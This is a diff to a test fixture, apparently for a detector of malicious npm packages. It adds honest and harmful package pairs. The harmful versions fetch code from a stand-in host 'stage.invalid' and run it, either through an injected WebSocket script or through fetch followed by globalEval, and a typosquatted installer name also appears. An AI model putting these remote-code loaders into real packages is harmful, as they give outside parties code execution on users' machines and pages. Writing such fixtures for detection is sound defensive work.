@@ -60,6 +60,18 @@ if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.
   'places.js': `exports.base = process.env.ACMETOOL_MIRROR || require('./index').base;`,
 });
 
+/** What a server for development has a page do. */
+const told = (address: string): string => `
+const protocol = window.location.protocol === 'https:' ? 'wss' : 'ws';
+const socket = new WebSocket(${address});
+socket.onmessage = message => {
+  const { id, code } = JSON.parse(String(message.data));
+  const script = document.createElement('script');
+  script.text = code;
+  script.setAttribute('data-id', id);
+  document.head.appendChild(script);
+};`;
+
 /** The memory of a program of WebAssembly, as bytes and as numbers, and a text in it. */
 const withMemory = (own: string): string => `
 let bytes, shorts, longs;
@@ -262,6 +274,30 @@ const pairs: readonly Pair[] = [
     honest: installer('acmetool'),
     deed: 'the variable has the name of the package that the installer was copied from',
     harmful: installer('acmetoo1'),
+  },
+  {
+    habit: 'a page in development is told by its own server what to run',
+    honest: {
+      'package.json': manifest({ description: 'A bundler for pages' }),
+      'index.js': told('`${protocol}://${window.location.host}/message`'),
+    },
+    deed: 'somebody else’s server tells it',
+    harmful: {
+      'package.json': manifest({ description: 'A bundler for pages' }),
+      'index.js': told(`'wss://stage.invalid/message'`),
+    },
+  },
+  {
+    habit: 'a run-time for Node.js and pages reads a file beside itself, and can load code from where it is told',
+    honest: {
+      'package.json': manifest({ description: 'Packs bytes' }),
+      'index.js': runtime(`Module.start = __dirname + '/'; Module.read(Module.start + 'core.mem');`),
+    },
+    deed: 'it loads what it fetches',
+    harmful: {
+      'package.json': manifest({ description: 'Packs bytes' }),
+      'index.js': `${runtime('')}\nfetch('https://stage.invalid/next').then(r => r.text()).then(globalEval);`,
+    },
   },
   {
     habit: 'services are set up for whoever calls',
